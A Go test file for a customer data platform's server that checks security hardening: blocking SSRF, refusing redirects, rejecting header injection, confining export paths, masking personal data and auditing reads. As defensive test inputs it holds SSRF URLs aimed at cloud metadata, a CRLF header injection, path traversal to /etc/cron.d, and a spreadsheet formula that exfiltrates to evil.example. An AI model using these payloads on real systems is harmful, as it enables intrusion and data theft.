package server_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	natsgo "github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/kenner-cdp/kenner"
	"github.com/kenner-cdp/kenner/activation/webhook"
	"github.com/kenner-cdp/kenner/egress"
	"github.com/kenner-cdp/kenner/internal/smtptest"
)

// TestNATSDestinationCannotTouchTheLog: the subjects that purged the event log or wrote a
// foreign record into it are refused when a destination is saved, and the connection
// destinations publish on may not publish there even if a check were missed.
func TestNATSDestinationCannotTouchTheLog(t *testing.T) {
	st := newStack(t)
	admin := st.tokens[kenner.RoleAdmin]
	for _, subj := range []string{"$JS.API.STREAM.PURGE.events", "$js.api.stream.delete.events", "kenner.events.0",
		"kenner.changes", "_INBOX.steal", "$SYS.REQ.SERVER.PING", "$KV.bucket.key", "kenner"} {
		body := fmt.Sprintf(`{"name":"x","type":"nats","config":{"subject":%q}}`, subj)
		if code, out := st.do(t, "POST", "/v1/destinations", admin, body); code != 400 {
			t.Errorf("subject %s: %d %v, want 400", subj, code, out)
		}
	}

	st.track(t, `{"batch":[{"type":"track","userId":"u1","event":"Signed Up","messageId":"before"}]}`)
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	js, _ := jetstream.New(st.log.Conn())
	stream, err := js.Stream(ctx, "events")
	if err != nil {
		t.Fatal(err)
	}
	before, _ := stream.Info(ctx)

	// The restricted user is refused by the server itself.
	dest := st.log.DestinationConn()
	errs := make(chan error, 4)
	dest.SetErrorHandler(func(_ *natsgo.Conn, _ *natsgo.Subscription, err error) { errs <- err })
	for _, subj := range []string{"$JS.API.STREAM.PURGE.events", "kenner.events.0"} {
		dest.Publish(subj, []byte("foreign"))
		dest.Flush()
		select {
		case err := <-errs:
			if !strings.Contains(strings.ToLower(err.Error()), "permissions violation") {
				t.Errorf("publish on %s: %v, want a permissions violation", subj, err)
			}
		case <-time.After(5 * time.Second):
			t.Errorf("publish on %s by the destinations' user was not refused", subj)
		}
	}
	after, _ := stream.Info(ctx)
	if after.State.Msgs < before.State.Msgs {
		t.Errorf("the event stream lost messages: %d -> %d", before.State.Msgs, after.State.Msgs)
	}
}

// TestForeignLogRecordIsSkipped: a record Kenner did not write (no format header, or bad
// frames) used to stop its partition's processor for ever; it is skipped and later events
// are applied.
func TestForeignLogRecordIsSkipped(t *testing.T) {
	st := newStack(t)
	viewer := st.tokens[kenner.RoleMarketer]
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	js, _ := jetstream.New(st.log.Conn())
	for p := range st.log.Partitions() {
		subj := fmt.Sprintf("kenner.events.%d", p)
		if _, err := js.Publish(ctx, subj, []byte(`{"type":"track","userId":"intruder","event":"x"}`)); err != nil {
			t.Fatal(err)
		}
		m := natsgo.NewMsg(subj)
		m.Header.Set("Kenner-Format", "1")
		m.Data = []byte{0xff, 0xff, 0xff, 0xff, 0x0f} // a frame longer than the record
		if _, err := js.PublishMsg(ctx, m); err != nil {
			t.Fatal(err)
		}
	}
	for i := range 8 {
		st.track(t, fmt.Sprintf(`{"batch":[{"type":"identify","userId":"after-%d","traits":{"plan":"pro"},"messageId":"a%d"}]}`, i, i))
	}
	for i := range 8 {
		waitFor(t, func() bool {
			code, out := st.do(t, "GET", fmt.Sprintf("/v1/profiles/user_id:after-%d", i), viewer, "")
			if code != 200 && code != 404 {
				t.Fatalf("%d %v", code, out)
			}
			return code == 200
		})
	}
	if code, _ := st.do(t, "GET", "/v1/profiles/user_id:intruder", viewer, ""); code != 404 {
		t.Errorf("the foreign record's event was applied: %d", code)
	}
	// Each reader of the log (processor, activation) skips them and counts.
	if n := st.log.SkippedRecords(); n < int64(2*st.log.Partitions()) {
		t.Errorf("%d records skipped, want at least %d", n, 2*st.log.Partitions())
	}
}

// TestDestinationSSRF: with the default policy (no --destination-allow), destinations that
// point at internal addresses are refused when saved, in every spelling of the issue's
// attack, and a host name that resolves to loopback is refused when it connects.
func TestDestinationSSRF(t *testing.T) {
	st := newStack(t, func(sc *stackConfig) {
		sc.act.Senders[webhook.Type] = webhook.Factory(egress.Policy{})
	})
	admin := st.tokens[kenner.RoleAdmin]
	for _, url := range []string{"http://169.254.169.254/latest/meta-data/", "http://10.0.0.5/", "http://[fd00::1]/",
		"http://metadata.google.internal/computeMetadata/v1/", "http://0x7f000001/", "http://2130706433/", "http://127.0.0.1:8080/",
		"http://[::ffff:127.0.0.1]/", "http://localhost/"} {
		body := fmt.Sprintf(`{"name":"x","type":"webhook","config":{"url":%q}}`, url)
		if code, out := st.do(t, "POST", "/v1/destinations", admin, body); code != 400 {
			t.Errorf("webhook to %s: %d %v, want 400", url, code, out)
		}
	}
	// A host name that resolves to an internal address passes this check (it is a name) and
	// is refused when it connects: egress.TestClientRefusesAtConnect.
}

// TestRedirectNotFollowed: a receiver's 302 is its answer: the delivery does not go on to
// the redirect's target (an internal service, with the destination's headers), and the
// delivery log keeps no excerpt of it.
func TestRedirectNotFollowed(t *testing.T) {
	st := newStack(t)
	admin := st.tokens[kenner.RoleAdmin]
	var inner atomic.Int32
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		inner.Add(1)
		fmt.Fprint(w, "internal page")
	}))
	defer target.Close()
	redirector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, target.URL+"/admin", http.StatusFound)
	}))
	defer redirector.Close()
	body := fmt.Sprintf(`{"name":"r","type":"webhook","config":{"url":%q,"headers":{"X-Api-Key":"k"}},"subscribe":{"events":true},"max_attempts":1}`, redirector.URL)
	code, d := st.do(t, "POST", "/v1/destinations", admin, body)
	if code != 201 {
		t.Fatalf("create: %d %v", code, d)
	}
	id := d["id"].(string)
	st.track(t, `{"batch":[{"type":"track","userId":"u","event":"Signed Up","messageId":"r1"}]}`)
	var dead []any
	waitFor(t, func() bool {
		_, out := st.do(t, "GET", "/v1/destinations/"+id+"/dead-letters", admin, "")
		dead, _ = out["dead_letters"].([]any)
		if dead == nil {
			dead, _ = out["deliveries"].([]any)
		}
		return len(dead) == 1
	})
	if inner.Load() != 0 {
		t.Error("the redirect was followed")
	}
	_, one := st.do(t, "GET", fmt.Sprintf("/v1/destinations/%s/deliveries/%.0f", id, dead[0].(map[string]any)["id"]), admin, "")
	if strings.Contains(fmt.Sprint(one), "internal page") || strings.Contains(fmt.Sprint(one), "Found</a>") {
		t.Errorf("the delivery log shows the redirect's body: %v", one)
	}
}

// TestHeaderValuesRefused: a header value with a line break is refused when saved (Go
// refuses it on send, so deliveries died slowly).
func TestHeaderValuesRefused(t *testing.T) {
	st := newStack(t)
	admin := st.tokens[kenner.RoleAdmin]
	body := `{"name":"h","type":"webhook","config":{"url":"http://127.0.0.1:9/","headers":{"X-A":"v\r\nX-Injected: 1"}}}`
	if code, out := st.do(t, "POST", "/v1/destinations", admin, body); code != 400 {
		t.Errorf("CRLF in a header value: %d %v, want 400", code, out)
	}
}

// TestTokensAboveOwnRole: an admin neither sees nor revokes owner tokens (the initial one
// included); an owner does both.
func TestTokensAboveOwnRole(t *testing.T) {
	st := newStack(t)
	admin, owner := st.tokens[kenner.RoleAdmin], st.tokens[kenner.RoleOwner]
	_, list := st.do(t, "GET", "/v1/tokens", owner, "")
	var ownerIDs []string
	for _, it := range list["tokens"].([]any) {
		if m := it.(map[string]any); m["role"] == "owner" {
			ownerIDs = append(ownerIDs, m["id"].(string))
		}
	}
	if len(ownerIDs) == 0 {
		t.Fatal("the owner sees no owner token")
	}
	_, list = st.do(t, "GET", "/v1/tokens", admin, "")
	for _, it := range list["tokens"].([]any) {
		if m := it.(map[string]any); m["role"] == "owner" {
			t.Errorf("an admin sees owner token %v", m["id"])
		}
	}
	for _, id := range ownerIDs {
		if code, out := st.do(t, "DELETE", "/v1/tokens/"+id, admin, ""); code != 403 {
			t.Errorf("admin revoking owner token %s: %d %v, want 403", id, code, out)
		}
	}
	if code, _ := st.do(t, "GET", "/v1/tokens", owner, ""); code != 200 {
		t.Errorf("the owner token stopped working: %d", code)
	}
}

// TestComputedPIIMasked: a computed trait that keeps an email (the last one an event carried,
// or an expression over the email trait) is masked for analysts and viewers like the email
// itself; a count stays readable.
func TestComputedPIIMasked(t *testing.T) {
	st := newStack(t)
	mk, analyst := st.tokens[kenner.RoleMarketer], st.tokens[kenner.RoleAnalyst]
	for _, body := range []string{
		`{"name":"last_contact","func":"last","event":"Contact Requested","property":"properties.email"}`,
		`{"name":"mail_domain","func":"expression","expression":"'contact: ' + string(traits.email)"}`,
		`{"name":"requests","func":"count","event":"Contact Requested"}`,
	} {
		if code, out := st.do(t, "POST", "/v1/computed-traits", mk, body); code != 201 {
			t.Fatalf("computed trait: %d %v", code, out)
		}
	}
	st.track(t, `{"batch":[{"type":"identify","userId":"u1","traits":{"email":"ann.secret@example.com"},"messageId":"c0"},
		{"type":"track","userId":"u1","event":"Contact Requested","properties":{"email":"ann.other@example.com"},"messageId":"c1"}]}`)
	var id string
	waitFor(t, func() bool {
		code, p := st.do(t, "GET", "/v1/profiles/user_id:u1?consistent=true", mk, "")
		if code != 200 {
			return false
		}
		id = p["id"].(string)
		c, _ := p["computed"].(map[string]any)
		return c["last_contact"] == "ann.other@example.com" && c["requests"] == float64(1)
	})
	code, p := st.do(t, "GET", "/v1/profiles/id:"+id, analyst, "")
	if code != 200 {
		t.Fatalf("analyst: %d %v", code, p)
	}
	c := p["computed"].(map[string]any)
	for _, name := range []string{"last_contact", "mail_domain"} {
		if v := fmt.Sprint(c[name]); strings.Contains(v, "ann.") || strings.Contains(v, "example.com") {
			t.Errorf("the analyst sees %s = %v", name, v)
		}
	}
	if c["requests"] != float64(1) {
		t.Errorf("the analyst sees requests = %v, want the count", c["requests"])
	}
}

// TestEmailIsNotARelay: an email destination subscribed to events used to mail whatever
// properties.email said, so anyone with the public write key could send mail through it. Mail
// goes only to the email identifier of the person the event is about.
func TestEmailIsNotARelay(t *testing.T) {
	st := newStack(t)
	admin := st.tokens[kenner.RoleAdmin]
	smtp := smtptest.Start(t, smtptest.Options{})
	host, port, _ := net.SplitHostPort(smtp.Addr)
	body := fmt.Sprintf(`{"name":"receipts","type":"email","subscribe":{"events":true},
		"config":{"host":%q,"port":%s,"security":"none","from":"Shop <news@shop.example>","subject":"Thanks","text":"Hello"}}`, host, port)
	code, d := st.do(t, "POST", "/v1/destinations", admin, body)
	if code != 201 {
		t.Fatalf("create = %d %v", code, d)
	}
	id := d["id"].(string)
	// An anonymous visitor names a victim's address; a known customer sends someone else's.
	st.track(t, `{"batch":[
		{"type":"track","anonymousId":"a-spam","event":"Contact","properties":{"email":"victim@example.org"},"messageId":"r1"},
		{"type":"identify","userId":"cust","traits":{"email":"cust@example.com"},"messageId":"r2"},
		{"type":"track","userId":"cust","event":"Order Completed","properties":{"email":"other@example.org"},"traits":{"email":"other@example.org"},"messageId":"r3"}]}`)
	waitFor(t, func() bool {
		_, out := st.do(t, "GET", "/v1/destinations/"+id+"/deliveries?status=delivered", admin, "")
		ds, _ := out["deliveries"].([]any)
		return len(ds) == 3
	})
	for _, m := range smtp.Mails() {
		for _, to := range m.To {
			if to != "cust@example.com" {
				t.Errorf("mail sent to %s", to)
			}
		}
	}
	if n := len(smtp.Mails()); n != 2 {
		t.Errorf("%d mails, want 2 (the customer's identify and order, to their own address)", n)
	}
}

// TestMembersCSVAuditedAndSafe: the members CSV (every member's identifiers) is in the audit
// log, and a user id sent through the public write key cannot become a spreadsheet formula.
func TestMembersCSVAuditedAndSafe(t *testing.T) {
	st := newStack(t)
	mk, admin := st.tokens[kenner.RoleMarketer], st.tokens[kenner.RoleAdmin]
	_, seg := st.do(t, "POST", "/v1/segments", mk, `{"name":"All","condition":"has(traits.plan) && traits.plan == \"x\""}`)
	id := seg["id"].(string)
	st.track(t, `{"batch":[{"type":"identify","userId":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")","traits":{"plan":"x"},"messageId":"f1"}]}`)
	var csv string
	waitFor(t, func() bool {
		req, _ := http.NewRequest("GET", st.url+"/v1/segments/"+id+"/members?format=csv", nil)
		req.Header.Set("Authorization", "Bearer "+mk)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		csv = string(b)
		return strings.Count(csv, "\n") >= 2
	})
	for _, line := range strings.Split(csv, "\n")[1:] {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.Trim(cell, `"`); strings.HasPrefix(c, "=") {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
	_, audit := st.do(t, "GET", "/v1/audit?action="+url.QueryEscape("GET /v1/segments/{id}/members"), admin, "")
	if entries, _ := audit["entries"].([]any); len(entries) == 0 {
		t.Errorf("the members CSV download is not audited: %v", audit)
	}
}

// TestPublicListener: with --admin-addr, the public handler answers the tracking API and the
// health checks, and nothing of the admin API, metrics or OpenAPI.
func TestPublicListener(t *testing.T) {
	st := newStack(t)
	pub := httptest.NewServer(st.api.Public())
	defer pub.Close()
	for _, path := range []string{"/metrics", "/openapi.json", "/v1/profiles/user_id:u", "/v1/tokens", "/v1/audit"} {
		req, _ := http.NewRequest("GET", pub.URL+path, nil)
		req.Header.Set("Authorization", "Bearer "+st.tokens[kenner.RoleOwner])
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 404 {
			t.Errorf("public GET %s: %d, want 404", path, resp.StatusCode)
		}
	}
	req, _ := http.NewRequest("POST", pub.URL+"/v1/track", strings.NewReader(`{"userId":"u","event":"E"}`))
	req.SetBasicAuth(st.writeKey, "")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("public POST /v1/track: %d", resp.StatusCode)
	}
	resp, err = http.Get(pub.URL + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("public /readyz: %d", resp.StatusCode)
	}
}

// TestExportDirConfined: a file export writes only inside the export root (the tests' root
// is the temporary directory), and saving one creates no directory.
func TestExportDirConfined(t *testing.T) {
	st := newStack(t)
	admin := st.tokens[kenner.RoleAdmin]
	for _, dir := range []string{"/etc/cron.d", "../../etc", "/"} {
		body := fmt.Sprintf(`{"name":"x","type":"file","config":{"dir":%q}}`, dir)
		if code, out := st.do(t, "POST", "/v1/destinations", admin, body); code != 400 {
			t.Errorf("dir %s: %d %v, want 400", dir, code, out)
		}
	}
	dir := filepath.Join(t.TempDir(), "not-yet")
	body := fmt.Sprintf(`{"name":"ok","type":"file","config":{"dir":%q}}`, dir)
	if code, out := st.do(t, "POST", "/v1/destinations", admin, body); code != 201 {
		t.Fatalf("dir inside the root: %d %v", code, out)
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("saving the destination created %s (%v)", dir, err)
	}
}

// TestUnmatchedRoutesAnswerJSON: unknown paths (404) and wrong methods (405, with Allow) get
// the JSON error envelope like every other error.
func TestUnmatchedRoutesAnswerJSON(t *testing.T) {
	st := newStack(t)
	for _, tc := range []struct {
		method, path string
		status       int
		code         string
	}{
		{"GET", "/v1/nothing-here", 404, "not_found"},
		{"GET", "/", 404, "not_found"},
		{"DELETE", "/v1/track", 405, "method_not_allowed"},
		{"PATCH", "/v1/segments", 405, "method_not_allowed"},
	} {
		req, _ := http.NewRequest(tc.method, st.url+tc.path, nil)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var body struct {
			Error struct{ Code, Message string } `json:"error"`
		}
		err = json.NewDecoder(resp.Body).Decode(&body)
		resp.Body.Close()
		if resp.StatusCode != tc.status || err != nil || body.Error.Code != tc.code || body.Error.Message == "" ||
			!strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json") {
			t.Errorf("%s %s: %d %q %+v (%v)", tc.method, tc.path, resp.StatusCode, resp.Header.Get("Content-Type"), body, err)
		}
		if tc.status == 405 && resp.Header.Get("Allow") == "" {
			t.Errorf("%s %s: no Allow header", tc.method, tc.path)
		}
	}
}

// TestAccountNamesNotMasked: masking is for personal data: an analyst sees the company a
// person belongs to by name, and not the contact email on the account.
func TestAccountNamesNotMasked(t *testing.T) {
	st := newStack(t)
	mk, analyst := st.tokens[kenner.RoleMarketer], st.tokens[kenner.RoleAnalyst]
	st.track(t, `{"batch":[{"type":"group","userId":"u1","groupId":"acme","traits":{"name":"Acme BV","plan":"pro","email":"founder@acme.example"},"messageId":"g1"}]}`)
	var id string
	waitFor(t, func() bool {
		code, p := st.do(t, "GET", "/v1/profiles/user_id:u1?consistent=true", mk, "")
		if code == 200 {
			id = p["id"].(string)
		}
		return code == 200
	})
	_, p := st.do(t, "GET", "/v1/profiles/id:"+id, analyst, "")
	g := p["groups"].([]any)[0].(map[string]any)["traits"].(map[string]any)
	if g["name"] != "Acme BV" || g["plan"] != "pro" || g["email"] == "founder@acme.example" {
		t.Errorf("group traits as an analyst sees them: %v", g)
	}
}

// TestPersonalDataReadsAudited: reading a person's profile (any part of it) or the event
// debugger is in the audit log, with the reference reduced to its kind.
func TestPersonalDataReadsAudited(t *testing.T) {
	st := newStack(t)
	mk, admin := st.tokens[kenner.RoleMarketer], st.tokens[kenner.RoleAdmin]
	st.track(t, `{"batch":[{"type":"identify","userId":"u1","traits":{"email":"ann@example.com"},"messageId":"a1"}]}`)
	waitFor(t, func() bool {
		code, _ := st.do(t, "GET", "/v1/profiles/email:ann@example.com?consistent=true", mk, "")
		return code == 200
	})
	st.do(t, "GET", "/v1/profiles/email:ann@example.com/events", mk, "")
	st.do(t, "GET", "/v1/events?user_id=u1", mk, "")
	for _, action := range []string{"GET /v1/profiles/{ref}", "GET /v1/profiles/{ref}/events", "GET /v1/events"} {
		_, out := st.do(t, "GET", "/v1/audit?action="+url.QueryEscape(action), admin, "")
		entries, _ := out["entries"].([]any)
		if len(entries) == 0 {
			t.Errorf("%s is not audited", action)
			continue
		}
		if target := fmt.Sprint(entries[0].(map[string]any)["target"]); strings.Contains(target, "ann@") || strings.Contains(target, "u1") {
			t.Errorf("%s: the audit target names the person: %q", action, target)
		}
	}
}

// TestSharedValueGuard: an email presented by more people than the limit (a shop's own
// address typed at the till) stops identifying anyone and is listed; an admin can let it
// back, after which it identifies again and is not blocked a second time.
func TestSharedValueGuard(t *testing.T) {
	st := newStack(t, func(sc *stackConfig) { sc.proc.SharedLimit = 2 })
	mk, admin := st.tokens[kenner.RoleMarketer], st.tokens[kenner.RoleAdmin]
	st.track(t, `{"batch":[{"type":"identify","userId":"c1","traits":{"email":"till@shop.example"},"messageId":"g1"},
		{"type":"identify","userId":"c2","traits":{"email":"till@shop.example"},"messageId":"g2"},
		{"type":"identify","userId":"c3","traits":{"email":"till@shop.example"},"messageId":"g3"}]}`)
	var blocked []any
	waitFor(t, func() bool {
		_, out := st.do(t, "GET", "/v1/identity/blocked", admin, "")
		blocked, _ = out["blocked"].([]any)
		return len(blocked) == 1
	})
	if b := blocked[0].(map[string]any); b["kind"] != "email" || b["value"] != "till@shop.example" || b["profiles"] != 3.0 || b["allowed"] != false {
		t.Errorf("blocked: %v", b)
	}
	st.track(t, `{"batch":[{"type":"identify","anonymousId":"walk-in","traits":{"email":"till@shop.example"},"messageId":"g4"}]}`)
	waitFor(t, func() bool {
		code, _ := st.do(t, "GET", "/v1/profiles/anonymous_id:walk-in?consistent=true", mk, "")
		return code == 200
	})
	if _, p := st.do(t, "GET", "/v1/profiles/anonymous_id:walk-in", mk, ""); len(p["identities"].([]any)) != 1 {
		t.Errorf("the blocked email joined the walk-in: %v", p["identities"])
	}
	if code, out := st.do(t, "DELETE", "/v1/identity/blocked/email:till@shop.example", admin, ""); code != 204 {
		t.Fatalf("allow: %d %v", code, out)
	}
	st.track(t, `{"batch":[{"type":"identify","anonymousId":"walk-in-2","traits":{"email":"till@shop.example"},"messageId":"g5"}]}`)
	waitFor(t, func() bool {
		_, p := st.do(t, "GET", "/v1/profiles/anonymous_id:walk-in-2?consistent=true", mk, "")
		ids, _ := p["identities"].([]any)
		return len(ids) >= 2
	})
	if _, out := st.do(t, "GET", "/v1/identity/blocked", admin, ""); out["blocked"].([]any)[0].(map[string]any)["allowed"] != true {
		t.Errorf("after allowing: %v", out)
	}
}
